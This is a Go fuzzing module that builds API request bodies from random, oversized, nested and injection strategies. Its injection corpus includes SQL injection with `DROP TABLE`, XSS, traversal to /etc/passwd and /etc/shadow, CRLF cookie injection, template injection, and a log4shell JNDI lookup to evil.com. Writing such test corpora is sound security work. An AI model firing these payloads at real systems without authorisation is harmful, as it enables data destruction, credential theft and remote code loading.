package fuzz

import (
	"math/rand"
	"strings"
)

// injectionPayloads is the structured injection corpus: SQL, XSS, path
// traversal, header splitting, template injection, log4shell.
var injectionPayloads = []string{
	`' OR '1'='1`,
	`'; DROP TABLE students;--`,
	`<script>alert('XSS')</script>`,
	`../../../etc/passwd`,
	`%0d%0aSet-Cookie:session=admin`,
	`${7*7}`,
	`{{7*7}}`,
	`../../../../etc/shadow`,
	`{{config}}`,
	`${jndi:ldap://evil.com/a}`,
}

type strategy string

const (
	strategyInjection strategy = "injection"
	strategyRandom    strategy = "random"
	strategyOversized strategy = "oversized"
	strategyNested    strategy = "nested"
)

func strategies() []strategy {
	return []strategy{strategyInjection, strategyRandom, strategyOversized, strategyNested}
}

const randomAlphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*()[]{}<>/\\'\""

func randomString(rng *rand.Rand, n int) string {
	var b strings.Builder
	b.Grow(n)
	for i := 0; i < n; i++ {
		b.WriteByte(randomAlphabet[rng.Intn(len(randomAlphabet))])
	}
	return b.String()
}

// buildPayload produces the request body (or query values) for one
// endpoint/verb/strategy combination. seq cycles the injection corpus so a
// full grid run exercises every injection payload on every verb.
func buildPayload(rng *rand.Rand, s strategy, seq int) map[string]any {
	switch s {
	case strategyInjection:
		return map[string]any{
			"id":   injectionPayloads[seq%len(injectionPayloads)],
			"data": injectionPayloads[(seq+2)%len(injectionPayloads)],
		}
	case strategyRandom:
		return map[string]any{
			"field1": randomString(rng, 100),
			"field2": randomString(rng, 100),
		}
	case strategyOversized:
		return map[string]any{
			"data": strings.Repeat("A", 1000+rng.Intn(99000)),
		}
	default:
		return map[string]any{
			"nested": map[string]any{
				"deep": map[string]any{
					"data": randomString(rng, 50),
				},
			},
		}
	}
}
